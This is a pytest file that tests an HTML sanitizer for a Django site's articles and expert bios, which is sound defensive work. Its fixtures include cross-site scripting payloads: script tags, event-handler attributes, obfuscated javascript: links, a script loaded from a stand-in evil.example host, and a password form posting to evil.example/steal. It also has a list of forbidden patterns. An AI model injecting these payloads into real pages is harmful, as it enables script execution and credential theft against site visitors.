"""
Rich text (article body, footer note, expert bio) is sanitized before it is stored,
so nothing an editor pastes can run in a reader's browser, while the formatting the
reference page needs survives.
"""

import json
import re

import pytest

from articles.models import Article
from experts.models import Expert
from tests.helpers.factories import make_article, make_expert
from tests.helpers.htmlpage import get_page, parse
from thinktank.html import sanitize_html

pytestmark = pytest.mark.django_db

HOSTILE = """
<h2>Heading kept</h2>
<p>Before <script>alert('body-script')</script> after.</p>
<script src="https://evil.example/x.js"></script>
<img src="/media/articles/a.png" alt="kept image" onerror="alert('img-onerror')">
<p style="width: expression(alert('css-expression'))" onclick="alert('click')">Styled</p>
<a href="javascript:alert('js-link')">js link</a>
<a href="JaVaScRiPt:alert('js-link-2')">mixed-case js link</a>
<a href="&#106;avascript:alert('js-link-3')">encoded js link</a>
<a href=" javascript:alert('js-link-4')">spaced js link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<svg onload="alert('svg-onload')"><circle r="5"/></svg>
<form action="https://evil.example/steal"><input name="password"></form>
<style>body { background: url("javascript:alert('style-tag')") }</style>
<div onmouseover="alert('hover')">hover me</div>
<!-- a comment that hides <script>alert('comment')</script> -->
"""

FORBIDDEN = [
    "<script",
    "</script",
    "alert(",
    "onerror",
    "onclick",
    "onload",
    "onmouseover",
    "expression(",
    "style=",
    "javascript:",
    "data:text/html",
    "<iframe",
    "<object",
    "<svg",
    "<form",
    "<input",
    "<style",
    "<!--",
    "evil.example",
]

ALLOWED = """<h2>Section</h2>
<h3>Subsection</h3>
<p>A paragraph with <strong>strong</strong>, <em>em</em> and a
<a href="https://example.org/source">link</a>.</p>
<ul><li>one</li><li>two</li></ul>
<ol><li>first</li><li>second</li></ol>
<blockquote><p>A quote.</p></blockquote>
<table><thead><tr><th>Year</th><th>Value</th></tr></thead>
<tbody><tr><td>2023</td><td>42</td></tr></tbody></table>
<img src="/media/articles/chart.png" alt="A chart">"""


# The one <script> a page may carry: schema.org data, which browsers never run.
JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)


def without_json_ld(html):
    """`html` without its JSON-LD blocks, once each is shown to be data that cannot
    close its element (no raw "<") and parses as JSON."""
    for block in JSON_LD.findall(html):
        assert "<" not in block, block
        json.loads(block)
    return JSON_LD.sub("", html)


# The one <form> every page carries: the header's search box, a GET to the site's search.
HEADER_SEARCH = re.compile(r'<form class="header-search"[^>]*>.*?</form>', re.DOTALL)


def without_header_search(html):
    """`html` without the header's search box, once it is shown to be the site's own."""
    for form in HEADER_SEARCH.findall(html):
        assert re.search(r'method="get" action="(/[a-z]{2})?/search"', form), form
        assert "evil" not in form and "<script" not in form, form
    return HEADER_SEARCH.sub("", html)


def assert_harmless(html):
    lowered = without_header_search(without_json_ld(html)).lower()
    for needle in FORBIDDEN:
        assert needle not in lowered, f"{needle!r} survived in: {html}"


def test_hostile_body_never_reaches_the_page(client):
    article = make_article("Hostile Body", body=HOSTILE)
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    assert_harmless(response.content.decode())
    prose = parse(response).find(cls="prose")
    assert prose.find("h2").text == "Heading kept"
    assert prose.find("img").get("alt") == "kept image"
    assert "Styled" in prose.text


def test_hostile_body_is_cleaned_before_it_is_stored(client):
    article = make_article("Stored Clean", body=HOSTILE)
    stored = Article.objects.values_list("body", flat=True).get(pk=article.pk)
    assert_harmless(stored)
    assert stored == article.body  # the instance holds what was stored


def test_body_is_cleaned_on_update_too():
    article = make_article("Edited Later")
    article.body = '<p>fine</p><script>alert("later")</script>'
    article.save()
    assert Article.objects.get(pk=article.pk).body == "<p>fine</p>"


def test_bulk_created_body_is_cleaned():
    template = make_article("Bulk Template")
    copy = Article(
        title="Bulk Copy",
        slug="bulk-copy",
        publication_type=template.publication_type,
        summary="s",
        body='<p onclick="alert(1)">bulk</p>',
        translation_set=template.translation_set,
        language="ar",
    )
    Article.objects.bulk_create([copy])
    assert Article.objects.get(slug="bulk-copy").body == "<p>bulk</p>"


def test_hostile_footer_note_never_reaches_the_page(client):
    article = make_article("Hostile Footer", footer_note=HOSTILE)
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    assert_harmless(response.content.decode())
    assert parse(response).find(cls="article__footer-note").find("h2").text == "Heading kept"


def test_hostile_expert_bio_never_reaches_the_profile(client):
    make_expert("Hostile Bio", bio=HOSTILE)
    response = client.get("/experts/hostile-bio")
    assert response.status_code == 200
    assert_harmless(response.content.decode())
    assert_harmless(Expert.objects.get(slug="hostile-bio").bio)
    assert parse(response).find(cls="profile__bio").find("h2").text == "Heading kept"


def test_plain_text_fields_are_escaped(client):
    """Title, summary, short bio and names are text: shown, never interpreted."""
    author = make_expert(
        "Eve <script>alert('name')</script>",
        slug="eve",
        short_bio="<img src=x onerror=alert('bio')>",
    )
    article = make_article(
        "Title <script>alert('title')</script>",
        slug="escaped-title",
        summary="<b onmouseover=alert('summary')>summary</b>",
        authors=[author],
        outlet_name="<script>alert('outlet')</script>",
        outlet_url="https://example.org/original",
    )
    response = client.get(article.get_absolute_url())
    assert response.status_code == 200
    html = without_json_ld(response.content.decode())
    assert "<script" not in html
    assert "<img src=x" not in html
    assert "<b onmouseover" not in html
    page = parse(response)
    assert page.find("h1").text == "Title <script>alert('title')</script>"
    assert page.find(cls="author__bio").text == "<img src=x onerror=alert('bio')>"
    profile = client.get("/experts/eve")
    assert profile.status_code == 200
    assert "<script" not in without_json_ld(profile.content.decode())


def test_allowed_formatting_survives_on_the_page(client):
    article = make_article("Well Formatted", body=ALLOWED)
    page = get_page(client, article.get_absolute_url())
    prose = page.find(cls="prose")
    assert prose.find("h2").text == "Section"
    assert prose.find("h3").text == "Subsection"
    assert prose.find("strong").text == "strong"
    assert prose.find("em").text == "em"
    link = prose.find("a")
    assert link.get("href") == "https://example.org/source"
    assert link.text == "link"
    assert [item.text for item in prose.find("ul").find_all("li")] == ["one", "two"]
    assert [item.text for item in prose.find("ol").find_all("li")] == ["first", "second"]
    assert prose.find("blockquote").find("p").text == "A quote."
    table = prose.find("table")
    assert [cell.text for cell in table.find("thead").find_all("th")] == ["Year", "Value"]
    assert [cell.text for cell in table.find("tbody").find("tr").find_all("td")] == ["2023", "42"]
    image = prose.find("img")
    assert (image.get("src"), image.get("alt")) == ("/media/articles/chart.png", "A chart")


def test_sanitizer_keeps_the_allowlist_and_drops_the_rest():
    cleaned = sanitize_html(ALLOWED)
    for tag in [
        "<h2>",
        "<h3>",
        "<p>",
        "<strong>",
        "<em>",
        "<ul>",
        "<ol>",
        "<li>",
        "<blockquote>",
        "<table>",
        "<thead>",
        "<tbody>",
        "<tr>",
        "<th>",
        "<td>",
    ]:
        assert tag in cleaned, tag
    assert '<a href="https://example.org/source"' in cleaned
    assert '<img src="/media/articles/chart.png" alt="A chart">' in cleaned
    assert_harmless(sanitize_html(HOSTILE))


@pytest.mark.parametrize(
    "href",
    ["https://example.org/a", "http://example.org/a", "mailto:press@example.org", "tel:+15550100"],
)
def test_safe_link_schemes_are_kept(href):
    assert f'href="{href}"' in sanitize_html(f'<a href="{href}">x</a>')


def test_links_get_noopener():
    cleaned = sanitize_html('<a href="https://example.org">x</a>')
    assert 'rel="noopener noreferrer"' in cleaned


def test_mixed_direction_attributes_are_kept():
    html = '<p dir="rtl" lang="ar">نص <span dir="ltr" lang="en">Putin</span></p>'
    assert sanitize_html(html) == html


@pytest.mark.parametrize("empty", [None, "", "   "])
def test_empty_input_gives_empty_text(empty):
    assert sanitize_html(empty) == ""


def test_a_paste_from_word_becomes_clean_html():
    word = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>'
        "p.MsoNormal {margin:0cm}</style></head><body lang=EN-US>"
        '<p class=MsoNormal style="mso-margin-top-alt:auto"><b><span style="font-size:12pt;'
        'font-family:Calibri">Bold start</span></b><o:p></o:p></p>'
        '<p class=MsoListParagraph style="mso-list:l0 level1 lfo1"><!--[if !supportLists]-->'
        "<span>·<span>&nbsp;</span></span><!--[endif]-->Item</p>"
        '<a href="https://example.org/x" style="color:blue">link</a></body></html>'
    )
    clean = sanitize_html(word)
    for trace in (
        "style",
        "class=",
        "Mso",
        "mso-",
        "<o:p",
        "<!--",
        "font-family",
        "<html",
        "<head",
    ):
        assert trace not in clean, trace
    assert "<b>Bold start</b>" in clean.replace("<span>", "").replace("</span>", "")
    assert '<a href="https://example.org/x" rel="noopener noreferrer">link</a>' in clean
